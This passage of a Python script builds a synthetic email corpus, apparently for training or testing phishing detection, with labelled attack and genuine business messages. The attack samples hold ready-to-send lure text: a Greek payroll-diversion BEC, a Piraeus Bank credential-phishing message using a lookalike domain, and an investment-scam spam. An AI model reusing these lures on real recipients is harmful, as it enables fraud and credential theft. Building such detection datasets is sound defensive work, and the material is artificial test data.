           "Ευχαριστώ,\nΝίκος\n\nΑπεσταλμένο από το iPhone μου\n")
    html = '<div dir="auto">' + txt.replace("\n", "<br>") + '</div>\n'
    body = MP("alternative", [TXT(txt, cs="UTF-8", csname="UTF-8", csq=True, cte="base64"), HTML(html, cs="UTF-8", csname="UTF-8", cte="base64")], gmail_bnd("a38"))
    emit("attack", "38-el-payroll-diversion-bec.eml",
         "Payroll-diversion BEC: the Greek country manager impersonated from Gmail asks payroll to redirect December salary and Christmas bonus to a new account.",
         client=client, rcpt=rc, t=t, rp="nikos.papadopoulos.exg@gmail.com", relays=relays,
         hdrs=extra + [("MIME-Version", "1.0"), ("From", A("Νίκος Παπαδόπουλος", "nikos.papadopoulos.exg@gmail.com")),
                       ("Date", rfc(t)), ("Message-ID", gmail_mid("a38")),
                       ("Subject", ew("Αλλαγή λογαριασμού μισθοδοσίας")), ("To", A("Ελένη Γεωργίου", rc))],
         body=body)

    # 39 Piraeus winbank business phish
    rc = E("papadopoulos")
    t = T(3, 12, 50, 20, EET)
    link = "https://winbank-business.piraeus-asfaleia.com/el/login?ref=%s" % hx("a39", n=10)
    txt = ("Αξιότιμε πελάτη,\n\nΓια λόγους ασφαλείας η πρόσβασή σας στο winbank business έχει περιοριστεί "
           "προσωρινά λόγω ασυνήθιστης δραστηριότητας.\n\nΓια να αποκαταστήσετε την πρόσβαση, επιβεβαιώστε τα "
           "στοιχεία σας εντός 24 ωρών:\n%s\n\nΤράπεζα Πειραιώς\n" % link)
    emit("attack", "39-el-piraeus-winbank-phish.eml",
         "Piraeus Bank 'winbank business access restricted' phishing, windows-1253 quoted-printable plain text.",
         client=("vps-8a1c.contabo.host", "vmi2274411.contaboserver.net", "89.117.54.221"), rcpt=rc, t=t,
         rp="noreply@piraeus-asfaleia.com", tls="1.2",
         hdrs=[("From", A("Τράπεζα Πειραιώς", "noreply@piraeus-asfaleia.com", "windows-1253", csname="windows-1253")), ("To", rc),
               ("Subject", ew("Περιορισμός πρόσβασης στο winbank business", "windows-1253", csname="windows-1253")),
               ("Message-ID", "<%s@piraeus-asfaleia.com>" % hx("a39m", n=22))],
         body=TXT(txt, cs="windows-1253", csname="windows-1253"))

    # 40 Investment scam spam
    rc = E("antoniou")
    t = T(4, 19, 8, 5, EET)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head><body style="font-family:Georgia;font-size:15px">'
            '<h2>Αποκάλυψη: Η νέα πλατφόρμα AI που κάνει απλούς Έλληνες πλούσιους</h2>'
            '<p>Γνωστός επιχειρηματίας αποκάλυψε σε τηλεοπτική συνέντευξη την πλατφόρμα αυτόματων συναλλαγών με τεχνητή '
            'νοημοσύνη που αποφέρει έως <b>3.500 € την εβδομάδα</b> με αρχική κατάθεση μόλις 250 €.</p>'
            '<p>Οι θέσεις για την Ελλάδα είναι περιορισμένες.</p>'
            '<p><a href="https://bit.ly/4kQ8xZ2">Ξεκινήστε σήμερα &raquo;</a></p>'
            '<p style="font-size:10px;color:#999">Για διαγραφή από τη λίστα <a href="https://news-epikaira.click/unsub">πατήστε εδώ</a>.</p></body></html>')
    body = HTML(html, cs="windows-1253", csname="windows-1253", cte="base64")
    emit("attack", "40-el-ai-investment-scam-spam.eml",
         "Investment-fraud spam in Greek (fake celebrity-endorsed 'AI trading platform', 3,500 EUR/week) with shortened link.",
         client=("mail.news-epikaira.click", "unknown", "91.92.243.17"), rcpt=rc, t=t,
         rp="news@news-epikaira.click", tls=None,
         hdrs=[("From", A("Επίκαιρα Σήμερα", "news@news-epikaira.click", "windows-1253", csname="windows-1253")), ("To", rc),
               ("Subject", ew("Αποκάλυψη: πώς βγάζουν 3.500€ την εβδομάδα με AI", "windows-1253", csname="windows-1253")),
               ("Message-ID", "<%s@news-epikaira.click>" % hx("a40m", n=22))],
         body=body)

# ========================================================= BUSINESS (en) ==

def business_en():
    # 01 Microsoft invoice notice
    rc = E("wenzel")
    t = T(30, 6, 12, 4, UTC)
    client = ("BN1PR04CU002.outbound.protection.outlook.com", "mail-eastus2azon11010060.outbound.protection.outlook.com", "52.101.56.60")
    _c, relays, extra = m365_infra(t, "b1", tenant_host="SA1PR21MB6342", region="namprd21", client=client,
                                   tenant_id="72f988bf-86f1-41af-91ab-2d7cd011db47")
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial;font-size:14px;color:#323130">'
            '<table width="640" align="center"><tr><td style="padding:20px 0"><img src="https://c.s-microsoft.com/en-us/CMSImages/MSFT_logo.png" alt="Microsoft" width="108"></td></tr>'
            '<tr><td><h2 style="font-weight:600">Your Microsoft invoice is ready</h2>'
            '<p>Hello Claudia Wenzel,</p><p>Your invoice for the billing period 01/11/2026 - 30/11/2026 is now available in the Microsoft 365 admin center.</p>'
            '<table cellpadding="6" style="background:#f3f2f1;width:100%%"><tr><td>Billing account</td><td>Example Group</td></tr>'
            '<tr><td>Invoice number</td><td>G0731%s</td></tr><tr><td>Amount due</td><td>EUR 18,742.30</td></tr>'
            '<tr><td>Payment method</td><td>SEPA direct debit ending in 4471</td></tr><tr><td>Due date</td><td>30/12/2026</td></tr></table>'
            '<p><a href="https://admin.microsoft.com/Adminportal/Home#/billoverview/invoice-list" style="background:#0078d4;color:#fff;padding:10px 20px;text-decoration:none">View invoice</a></p>'
            '<p>No action is required. The amount will be collected automatically on or after the due date.</p>'
            '<p style="font-size:11px;color:#605e5c">This message was sent from an unmonitored e-mail address. Please do not reply.<br>'
            '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a><br>Microsoft Ireland Operations Limited, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, D18 P521, Ireland</p>'
            '</td></tr></table></body></html>' % hx("b1i", n=6).upper())
    txt = ("Your Microsoft invoice is ready\n\nHello Claudia Wenzel,\n\nYour invoice for the billing period 01/11/2026 - 30/11/2026 "
           "is now available in the Microsoft 365 admin center.\n\nAmount due: EUR 18,742.30\nPayment method: SEPA direct debit ending in 4471\n"
           "Due date: 30/12/2026\n\nView invoice: https://admin.microsoft.com/Adminportal/Home#/billoverview/invoice-list\n")
    body = MP("alternative", [TXT(txt), HTML(html)], "--_NmP-%s-Part_1" % hx("b1b", n=16))
    emit("business", "01-en-microsoft-invoice-ready.eml",
         "Genuine Microsoft 365 monthly billing notice (invoice available in admin center, SEPA direct debit) to the CFO.",
         client=client, rcpt=rc, t=t, rp="msonlineservicesteam@microsoftonline.com", relays=relays,
         hdrs=[("From", A("Microsoft", "microsoft-noreply@microsoft.com")), ("To", rc),
               ("Subject", "Your Microsoft invoice G0731%s is ready" % hx("b1i", n=6).upper()),
               ("Message-ID", "<%s@az.westus2.microsoft.com>" % hx("b1m", n=36)), ("Date", rfc(t)),
               ("X-MS-Exchange-Organization-AuthAs", "Anonymous") if False else ("X-Priority", "3")] + extra[2:],
         body=body, tls="1.2")

    # 02 Genuine DocuSign envelope from the auditors
    rc = E("wenzel")
    t = T(1, 10, 22, 15, CET)
    env = "%s-%s-%s-%s-%s" % (hx("e1", n=8), hx("e2", n=4), hx("e3", n=4), hx("e4", n=4), hx("e5", n=12))
    link = "https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (env, hx("acct", n=32), hx("er", n=32))
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="background:#eaeaea;font-family:Helvetica,Arial">'
            '<table width="640" align="center" style="background:#1e4ca1;color:#fff"><tr><td style="padding:30px;text-align:center">'
            'Hartwell &amp; Partner Wirtschaftsprüfungsgesellschaft sent you a document to review and sign.<br><br>'
            '<a href="%s" style="background:#ffc423;color:#333;padding:12px 24px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr></table>'
            '<table width="640" align="center" style="background:#fff;font-size:15px"><tr><td style="padding:30px"><b>Dr. Katrin Albers</b><br>k.albers@hartwell-partner.de<br><br>'
            'Sehr geehrte Frau Wenzel,<br><br>anbei erhalten Sie den Prüfungsauftrag für den Jahresabschluss 2026 sowie die Auftragsbedingungen zur elektronischen Unterzeichnung.<br><br>'
            'Mit freundlichen Grüßen<br>Katrin Albers</td></tr></table>'
            '<table width="640" align="center" style="font-size:11px;color:#666"><tr><td style="padding:20px"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. '
            'Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>Visit Docusign.com, click \'Access Documents\', and enter the security code:<br>%s<br><br>'
            '<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.</td></tr></table></body></html>'
            % (link, hx("sec", n=32).upper()))
    txt = ("Hartwell & Partner Wirtschaftsprüfungsgesellschaft sent you a document to review and sign.\n\nREVIEW DOCUMENT: %s\n\n"
           "Sehr geehrte Frau Wenzel,\n\nanbei erhalten Sie den Prüfungsauftrag für den Jahresabschluss 2026 sowie die "
           "Auftragsbedingungen zur elektronischen Unterzeichnung.\n\nMit freundlichen Grüßen\nKatrin Albers\n" % link)
    body = MP("alternative", [TXT(txt), HTML(html)], "----=_Part_%d_%d.%d" % (int(hx("b2p", n=6), 16), int(hx("b2q", n=6), 16), 1796808135000))
    emit("business", "02-en-docusign-audit-engagement-letter.eml",
         "Genuine Docusign (EU) envelope from the external auditors: audit engagement letter for FY2026 to sign.",
         client=("mail-eu1.docusign.net", "mail-eu1.docusign.net", "185.12.80.61"), rcpt=rc, t=t,
         rp="bounces+dse@eumail.docusign.net",
         hdrs=[("From", A("Dr. Katrin Albers via Docusign", "dse@eumail.docusign.net")), ("Reply-To", A("Dr. Katrin Albers", "k.albers@hartwell-partner.de")),
               ("To", A("Claudia Wenzel", rc)),
               ("Subject", ew("Bitte DocuSign: Auftragsbestätigung Jahresabschlussprüfung 2026 – Example Group")),
               ("Message-ID", "<%s@docusign.net>" % hx("b2m", n=32)), ("X-API-Host", "docusign.net"),
               ("X-DocuSign-EnvelopeId", env)],
         body=body)

    # 03 UK MD from his phone approving a payment (internal relay)
    rc = E("clarke")
    t = T(1, 18, 47, 31, GMT)
    client, relays, extra = internal_infra(t, "b3", rc, mbx="EXMBX01")
    txt = ("Emma - approved, please pay the Ferretti invoice 2026/1893 today, they've chased twice and the Verona "
           "trucks are booked for next week. Amount as per the PDF you sent, bank details as already in the system.\n\n"
           "Cheers\nJames\n\nGet Outlook for iOS <https://aka.ms/o0ukef>\n"
           "________________________________\nFrom: Emma Clarke <e.clarke@example.com>\nSent: Tuesday, December 1, 2026 4:12:05 PM\n"
           "To: James Thompson <j.thompson@example.com>\nSubject: Ferretti invoice 2026/1893 - approval needed\n\n"
           "Hi James,\n\nFerretti's invoice 2026/1893 (EUR 11,240.00, Verona-Hamburg November runs) needs your approval, "
           "it's over my limit. PDF attached in the previous mail.\n\nThanks\nEmma\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head><body><div dir="ltr">' +
            txt.replace("<", "&lt;").replace(">", "&gt;").replace("\n", "<br>\n") + '</div></body></html>')
    body = MP("alternative", [TXT(txt, cs="us-ascii"), HTML(html, cs="us-ascii")], outlook_bnd("b3", "EXMBX01"))
    emit("business", "03-en-md-approves-payment-from-phone.eml",
         "UK managing director replying from Outlook for iOS (internal relay) approving a supplier payment - short, urgent, payment-related but genuine.",
         client=client, rcpt=rc, t=t, rp=E("thompson"), relays=relays,
         hdrs=[("From", A("James Thompson", E("thompson"))), ("To", A("Emma Clarke", rc)),
               ("Subject", "Re: Ferretti invoice 2026/1893 - approval needed"),
               ("Thread-Topic", "Ferretti invoice 2026/1893 - approval needed"), ("Thread-Index", thread_index("b3")),
               ("Date", rfc(t, False)), ("Message-ID", exch_mid("b3", "EXMBX01")),
               ("References", exch_mid("b3r", "EXMBX02")), ("In-Reply-To", exch_mid("b3r", "EXMBX02")),
               ("Accept-Language", "en-GB"), ("Content-Language", "en-GB")] + extra,
         body=body)

    # 04 Subscribed newsletter via Mailchimp
    rc = E("schmitt")
    t = T(2, 7, 0, 12, GMT)
    def trk(i):
        return "https://logisticsweekly.us12.list-manage.com/track/click?u=%s&id=%s&e=%s" % (hx("mcu", n=25), hx("mcid", i, n=10), hx("mce", n=10))
    items = [("EU ETS2 and road freight: what the 2027 carbon price means for hauliers", 1),
             ("Red Sea: container spot rates ease as more carriers return to Suez", 2),
             ("Peak season: driver shortage pushes UK-EU trailer rates up 6%", 3),
             ("eFTI goes live: the end of the paper CMR?", 4)]
    lis = "".join('<tr><td style="padding:10px 0;border-bottom:1px solid #ddd"><a href="%s" style="color:#0b3d91;font-size:17px;text-decoration:none">%s</a></td></tr>' % (trk(i), h) for h, i in items)
    html = ('<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8"><title>Logistics Weekly</title></head><body>'
            '<center><table width="600" style="font-family:Georgia,serif"><tr><td style="background:#0b3d91;color:#fff;padding:18px;font-size:26px">Logistics Weekly</td></tr>'
            '<tr><td style="padding:10px 0;font-size:13px;color:#555">Issue 48 &middot; 2 December 2026</td></tr>%s'
            '<tr><td style="padding:20px 0;font-size:11px;color:#777">You are receiving this because you subscribed at logisticsweekly.co.uk.<br>'
            '<a href="https://logisticsweekly.us12.list-manage.com/unsubscribe?u=%s&id=%s&e=%s&c=%s">unsubscribe from this list</a> | '
            '<a href="https://logisticsweekly.us12.list-manage.com/profile?u=%s&id=%s&e=%s">update subscription preferences</a><br>'
            'Logistics Weekly Media Ltd &middot; 20 Eastcheap &middot; London EC3M 1EB &middot; United Kingdom</td></tr></table></center>'
            '<img src="https://logisticsweekly.us12.list-manage.com/track/open.php?u=%s&id=%s&e=%s" height="1" width="1" alt=""></body></html>'
            % (lis, hx("mcu", n=25), hx("mcl", n=10), hx("mce", n=10), hx("mcc", n=10), hx("mcu", n=25), hx("mcl", n=10), hx("mce", n=10),
               hx("mcu", n=25), hx("mco", n=10), hx("mce", n=10)))
    txt = "Logistics Weekly - Issue 48 - 2 December 2026\n\n" + "\n\n".join("%s\n%s" % (h, trk(i)) for h, i in items) + "\n\n** unsubscribe from this list\n"
    body = MP("alternative", [TXT(txt), HTML(html)], "_----------=_MCPart_%d" % int(hx("mcb", n=8), 16))
    emit("business", "04-en-newsletter-mailchimp-logistics.eml",
         "Subscribed industry newsletter sent through Mailchimp with tracking links, List-Unsubscribe and bulk headers.",
         client=("mail180-16.suw21.mcsv.net", "mail180-16.suw21.mcsv.net", "198.2.180.16"), rcpt=rc, t=t,
         rp="bounce-mc.us12_%d.%d-%s@mail180.suw21.mcsv.net" % (int(hx("r1", n=6), 16), int(hx("r2", n=6), 16), rc.replace("@", "=")),
         relays=[rx("Received: from localhost (localhost [127.0.0.1])\n\tby mail180-16.suw21.mcsv.net (Mailchimp) with ESMTP id 4dM%s\n\tfor <%s>; {D}" % (an("mcq", n=10), rc), t, 0, GMT)],
         hdrs=[("Subject", "Logistics Weekly: ETS2 costs, Red Sea rates, eFTI goes live"),
               ("From", A("Logistics Weekly", "news@logisticsweekly.co.uk")), ("Reply-To", A("Logistics Weekly", "editor@logisticsweekly.co.uk")),
               ("To", rc), ("Message-ID", "<%s@suw21.mcsv.net>" % hx("b4m", n=26)),
               ("X-Mailer", "Mailchimp Mailer - **CID%s**" % hx("cid", n=20)), ("X-Campaign", "mailchimp%s.%s" % (hx("mcu", n=25), hx("mcc", n=10))),
               ("X-campaignid", "mailchimp%s.%s" % (hx("mcu", n=25), hx("mcc", n=10))), ("X-Report-Abuse", "Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=%s&id=%s&e=%s" % (hx("mcu", n=25), hx("mcc", n=10), hx("mce", n=10))),
               ("X-MC-User", hx("mcu", n=25)), ("Feedback-ID", "%d:%d.%d:us12:mc" % (int(hx("f1", n=5), 16), int(hx("f2", n=6), 16), int(hx("f3", n=5), 16))),
               ("List-ID", "%s mc list <%s.logisticsweekly.us12.list-id.mcsv.net>" % (hx("mcu", n=25), hx("mcl", n=10))),
               ("X-Accounttype", "pd"), ("List-Unsubscribe", "<https://logisticsweekly.us12.list-manage.com/unsubscribe?u=%s&id=%s&t=b&e=%s&c=%s>, <mailto:unsubscribe-mc.us12_%s@unsubscribe.mailchimpapp.net>" % (hx("mcu", n=25), hx("mcl", n=10), hx("mce", n=10), hx("mcc", n=10), hx("mcu", n=25))),
               ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk")],
         body=body)

    # 05 Customer remittance advice with PDF
    rc = E("clarke")
    t = T(2, 14, 3, 0, GMT)
    doc = pdf([("BRIGHTWELL RETAIL LTD - REMITTANCE ADVICE", 13), "", "Payee: Example Group Ltd (UK branch)", "Payment date: 02/12/2026",
               "Payment method: BACS   Reference: BACS-0044719", "", "Invoice       Date         Amount GBP",
               "UK-26-1187    03/10/2026    8,410.00", "UK-26-1203    17/10/2026    5,932.50", "UK-26-1240    31/10/2026    3,118.75",
               "", "Total paid: GBP 17,461.25", "", "Queries: accounts.payable@brightwell-retail.co.uk"],
              title="Remittance Advice 0044719", author="SAP", producer="SAP NetWeaver", seed="b5")
    txt = ("Dear Supplier,\n\nPlease find attached a remittance advice for payment made to your account.\n\n"
           "Payment reference: BACS-0044719\nValue date: 02/12/2026\nAmount: GBP 17,461.25\n\n"
           "This is an automatically generated e-mail. For queries please contact accounts.payable@brightwell-retail.co.uk "
           "quoting your supplier number 400118.\n\nBrightwell Retail Ltd, Accounts Payable\n")
    body = MP("mixed", [TXT(txt, cs="us-ascii", cte="7bit"), ATT(doc, "application/pdf", "Remittance_Advice_0044719.pdf")],
              "=_%s" % hx("b5b", n=28))
    emit("business", "05-en-customer-remittance-advice.eml",
         "Automated remittance advice (BACS payment) from a UK customer's SAP system with a PDF listing paid invoices.",
         client=("mta1.brightwell-retail.co.uk", "mta1.brightwell-retail.co.uk", "195.59.118.20"), rcpt=rc, t=t,
         rp="sap-noreply@brightwell-retail.co.uk", tls="1.2",
         relays=[rx("Received: from sapprd01.brightwell.local (sapprd01.brightwell.local [172.18.4.21])\n\tby mta1.brightwell-retail.co.uk (Postfix) with ESMTP id 7E1D2600B4\n\tfor <e.clarke@example.com>; {D}", t, 1, GMT)],
         hdrs=[("From", A("Brightwell Retail Accounts Payable", "sap-noreply@brightwell-retail.co.uk")), ("To", rc),
               ("Subject", "Remittance Advice - Payment Ref BACS-0044719"),
               ("Message-ID", "<%s.SAPPRD01@brightwell-retail.co.uk>" % hx("b5m", n=32).upper()),
               ("X-Mailer", "SAP NetWeaver 7.50"), ("Auto-Submitted", "auto-generated")],
         body=body)

    # 06 Atlassian new-login security notice
    rc = E("becker")
    t = T(3, 13, 27, 48, UTC)
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:-apple-system,Segoe UI,Arial;color:#172b4d">'
            '<table width="520" align="center"><tr><td style="padding:24px 0"><img src="https://id-frontend.prod-east.frontend.public.atl-paas.net/assets/atlassian-logo.png" alt="Atlassian" width="150"></td></tr>'
            '<tr><td><h2>New login to your Atlassian account</h2><p>Hi Jonas,</p>'
            '<p>We noticed a new login to your Atlassian account j.becker@example.com.</p>'
            '<p><b>When:</b> Thursday, 3 December 2026 at 14:27 CET<br><b>Device:</b> Firefox on Linux<br><b>Near:</b> Hamburg, Germany</p>'
            '<p>If this was you, you can safely ignore this email.</p>'
            '<p>If this wasn\'t you, <a href="https://id.atlassian.com/manage-profile/security">secure your account</a> by changing your password and reviewing your recent activity.</p>'
            '<p style="font-size:12px;color:#6b778c">This message was sent to you by Atlassian Cloud<br>Atlassian Pty Ltd, Level 6, 341 George Street, Sydney NSW 2000, Australia</p></td></tr></table></body></html>')
    txt = ("New login to your Atlassian account\n\nHi Jonas,\n\nWe noticed a new login to your Atlassian account j.becker@example.com.\n\n"
           "When: Thursday, 3 December 2026 at 14:27 CET\nDevice: Firefox on Linux\nNear: Hamburg, Germany\n\n"
           "If this was you, you can safely ignore this email.\nIf this wasn't you, secure your account: https://id.atlassian.com/manage-profile/security\n")
    body = MP("alternative", [TXT(txt, cs="UTF-8", csname="UTF-8", csq=False), HTML(html, cs="UTF-8", csname="UTF-8", csq=False)], "----=_Part_%s" % hx("b6b", n=22))
    emit("business", "06-en-atlassian-new-login-notice.eml",
         "Genuine Atlassian 'new login to your account' security notice (via Amazon SES) to the IT administrator.",
         client=ses_infra("us-west-2", 34, "54.240.27.34"), rcpt=rc, t=t,
         rp="0101019%s-000000@us-west-2.amazonses.com" % hx("b6r", n=28),
         hdrs=[("From", A("Atlassian", "noreply@id.atlassian.com")), ("To", rc), ("Subject", "New login to your Atlassian account"),
               ("Message-ID", "<0101019%s-000000@us-west-2.amazonses.com>" % hx("b6m", n=28)),
               ("Feedback-ID", "::1.us-west-2.%s=:AmazonSES" % an("b6f", n=40, alphabet=_AL + "+/")),
               ("X-SES-Outgoing", "2026.12.03-54.240.27.34")],
         body=body)

# ========================================================= BUSINESS (de) ==

def business_de():
    # 07 Genuine supplier invoice with PDF + XRechnung XML
    rc = "kreditoren@example.com"
    t = T(30, 10, 31, 22, CET)
    client, relays, extra = ionos_infra(t, "b7", login_helo="FIBU-01")
    xml = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<ubl:Invoice xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
           'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" '
           'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">\n'
           '  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID>\n'
           '  <cbc:ID>2026-RE-11872</cbc:ID>\n  <cbc:IssueDate>2026-11-30</cbc:IssueDate>\n  <cbc:DueDate>2026-12-30</cbc:DueDate>\n'
           '  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>\n  <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>\n'
           '  <cbc:BuyerReference>4500018842</cbc:BuyerReference>\n'
           '  <cac:AccountingSupplierParty><cac:Party><cac:PartyName><cbc:Name>Lieferant GmbH</cbc:Name></cac:PartyName></cac:Party></cac:AccountingSupplierParty>\n'
           '  <cac:AccountingCustomerParty><cac:Party><cac:PartyName><cbc:Name>Example Group GmbH</cbc:Name></cac:PartyName></cac:Party></cac:AccountingCustomerParty>\n'
           '  <cac:PaymentMeans><cbc:PaymentMeansCode>58</cbc:PaymentMeansCode><cac:PayeeFinancialAccount><cbc:ID>DE44200505501234567890</cbc:ID></cac:PayeeFinancialAccount></cac:PaymentMeans>\n'
           '  <cac:LegalMonetaryTotal><cbc:TaxExclusiveAmount currencyID="EUR">10742.35</cbc:TaxExclusiveAmount>'
           '<cbc:PayableAmount currencyID="EUR">12783.40</cbc:PayableAmount></cac:LegalMonetaryTotal>\n</ubl:Invoice>\n')
    doc = pdf([("Lieferant GmbH", 15), "Industriestrasse 14 - 21079 Hamburg", "", ("RECHNUNG 2026-RE-11872", 13),
               "Rechnungsdatum: 30.11.2026   Ihre Bestellung: 4500018842   Kunden-Nr.: 10477", "",
               "Pos  Artikel                       Menge   Einzelpreis   Gesamt",
               "1    Palettenregal-Traverse 2700    120     54,20         6.504,00", "2    Regalstuetze 5000 verzinkt      48     88,30         4.238,40",
               "", "Netto 10.742,35 EUR   USt 19% 2.041,05 EUR   Brutto 12.783,40 EUR", "",
               "Zahlbar bis 30.12.2026 ohne Abzug auf DE44 2005 0550 1234 5678 90 (Hamburger Sparkasse)"],
              title="Rechnung 2026-RE-11872", author="Lieferant GmbH FiBu", producer="DATEV Auftragswesen", seed="b7")
    txt = ("Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2026-RE-11872 vom 30.11.2026 "
           "zu Ihrer Bestellung 4500018842 als PDF sowie als XRechnung (XML).\n\nBei Fragen zur Rechnung wenden Sie sich "
           "bitte an rechnungen@lieferant-gmbh.de oder telefonisch an 040 7654 3210-15.\n\nMit freundlichen Grüßen\n"
           "Buchhaltung\nLieferant GmbH\nIndustriestraße 14, 21079 Hamburg\nGeschäftsführer: Dr. Henning Lorenz | Amtsgericht Hamburg HRB 104477\n")
    body = MP("mixed", [TXT(txt, cs="iso-8859-1", csname="iso-8859-1"),
                        ATT(doc, "application/pdf", "2026-RE-11872.pdf"),
                        ATT(xml, "application/xml", "2026-RE-11872_xrechnung.xml")],
              "----=_NextPart_000_0015_01DD61BA.%s" % hx("b7b", n=8).upper(), preamble="This is a multipart message in MIME format.")
    emit("business", "07-de-supplier-invoice-xrechnung.eml",
         "Genuine invoice from rechnungen@lieferant-gmbh.de (IONOS) with PDF and XRechnung UBL XML attachment.",
         client=client, rcpt=rc, t=t, rp="rechnungen@lieferant-gmbh.de", relays=relays,
         hdrs=[("From", A("Lieferant GmbH Buchhaltung", "rechnungen@lieferant-gmbh.de")), ("To", "kreditoren@example.com"),
               ("Subject", "Rechnung 2026-RE-11872 zu Ihrer Bestellung 4500018842"), ("Date", rfc(t, False)),
               ("Message-ID", "<001501dd61ba$%s$%s@lieferant-gmbh.de>" % (hx("b7x", n=8), hx("b7y", n=8))),
               ("MIME-Version", "1.0"), ("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "de")] + extra,
         body=body)

    # 08 Genuine supplier bank change notice (merger), S/MIME signed, asks for phone verification
    rc = E("krueger")
    t = T(2, 11, 5, 40, CET)
    client, relays, extra = ionos_infra(t, "b8", login_helo="PC-VERTRIEB03")
    letter = pdf([("Lieferant GmbH", 15), "Industriestrasse 14 - 21079 Hamburg", "", "Example Group GmbH - Kreditorenbuchhaltung", "",
                  ("Aenderung unserer Bankverbindung zum 01.01.2027", 12), "",
                  "Sehr geehrte Damen und Herren,", "",
                  "aufgrund der Fusion der Hamburger Volksbank mit der Volksbank Lueneburger Heide aendern sich",
                  "IBAN und BIC unseres Geschaeftskontos zum 01.01.2027. Kontoinhaber bleibt die Lieferant GmbH.", "",
                  "Bisher:  DE71 2019 0003 0012 4477 00   BIC GENODEF1HH2",
                  "Neu ab 01.01.2027:  DE12 2406 0300 0012 4477 00   BIC GENODEF1NBU", "",
                  "Bis zum 31.12.2026 bleibt die bisherige Verbindung unveraendert gueltig.",
                  "Bitte verifizieren Sie diese Mitteilung telefonisch unter der Ihnen bekannten Rufnummer.", "",
                  "Hamburg, 02.12.2026", "Dr. Henning Lorenz, Geschaeftsfuehrer      Martina Voss, Prokuristin"],
                 title="Bankverbindung 2027", author="Lieferant GmbH", producer="Microsoft Word fuer Microsoft 365", seed="b8")
    txt = ("Sehr geehrte Frau Krüger,\n\nwie bereits telefonisch mit Ihrer Kollegin Frau Wenzel besprochen, ändert sich "
           "durch die Fusion unserer Hausbank zum 01.01.2027 unsere Bankverbindung. Das unterschriebene Schreiben der "
           "Geschäftsführung finden Sie im Anhang.\n\nBis zum 31.12.2026 gilt ausdrücklich noch die bisherige Verbindung. "
           "Bitte verifizieren Sie die Änderung wie üblich telefonisch über unsere Zentrale (040 7654 3210) – wir "
           "bestehen selbst darauf.\n\nMit freundlichen Grüßen\n\nStefan Maier\nVertrieb Innendienst\nLieferant GmbH\n"
           "Industriestraße 14, 21079 Hamburg\nTel. +49 40 7654 3210-22\n")
    inner = MP("mixed", [MP("alternative", [TXT(txt, cs="windows-1252"),
                                            HTML("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1252\"></head><body lang=\"DE\"><div class=\"WordSection1\"><p class=\"MsoNormal\">" + txt.replace("\n", "<br>\n") + "</p></div></body></html>", cs="windows-1252")],
                                    "----=_NextPart_002_0031_01DD6352.%s" % hx("b8c", n=8).upper()),
                         ATT(letter, "application/pdf", "Bankverbindung_ab_2027_Lieferant_GmbH.pdf")],
               "----=_NextPart_001_0030_01DD6352.%s" % hx("b8d", n=8).upper())
    sig = ATT(p7s_placeholder(), "application/pkcs7-signature", "smime.p7s")
    body = MP("signed", [inner, sig], "----=_NextPart_000_002F_01DD6352.%s" % hx("b8b", n=8).upper(),
              params=';\n\tprotocol="application/pkcs7-signature";\n\tmicalg=sha-256', preamble="This is a multipart message in MIME format.")
    emit("business", "08-de-supplier-genuine-bank-change-smime.eml",
         "Genuine, S/MIME-signed notice from s.maier@lieferant-gmbh.de about a bank merger changing IBAN from 01.01.2027, explicitly asking for phone verification (hard negative vs. IBAN fraud).",
         client=client, rcpt=rc, t=t, rp="s.maier@lieferant-gmbh.de", relays=relays,
         hdrs=[("From", A("Stefan Maier", "s.maier@lieferant-gmbh.de")), ("To", A("Sabine Krüger", rc, "iso-8859-1", q=True)),
               ("Cc", A("Claudia Wenzel", E("wenzel"))),
               ("Subject", ew("Änderung Bankverbindung zum 01.01.2027 (Bankfusion) - bitte telefonisch verifizieren", "iso-8859-1", q=True)),
               ("Date", rfc(t, False)), ("Message-ID", "<002f01dd6352$%s$%s@lieferant-gmbh.de>" % (hx("b8x", n=8), hx("b8y", n=8))),
               ("MIME-Version", "1.0"), ("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", thread_index("b8")),
               ("Content-Language", "de")] + extra,
         body=body)

    # 09 Internal IT password-policy notice (internal relay)
    rc = E("vogel")
    t = T(1, 8, 0, 4, CET)
    client, relays, extra = internal_infra(t, "b9", rc, mbx="EXMBX01")
    txt = ("Liebe Kolleginnen und Kollegen,\n\nab Montag, 07.12.2026, gilt die neue Passwortrichtlinie der Example Group:\n\n"
           "- Mindestlänge 14 Zeichen (Passphrase empfohlen)\n- keine regelmäßige Zwangsänderung mehr, dafür Prüfung gegen bekannte "
           "kompromittierte Passwörter\n- MFA per Authenticator-App bzw. FIDO2-Schlüssel für alle Fernzugriffe\n\n"
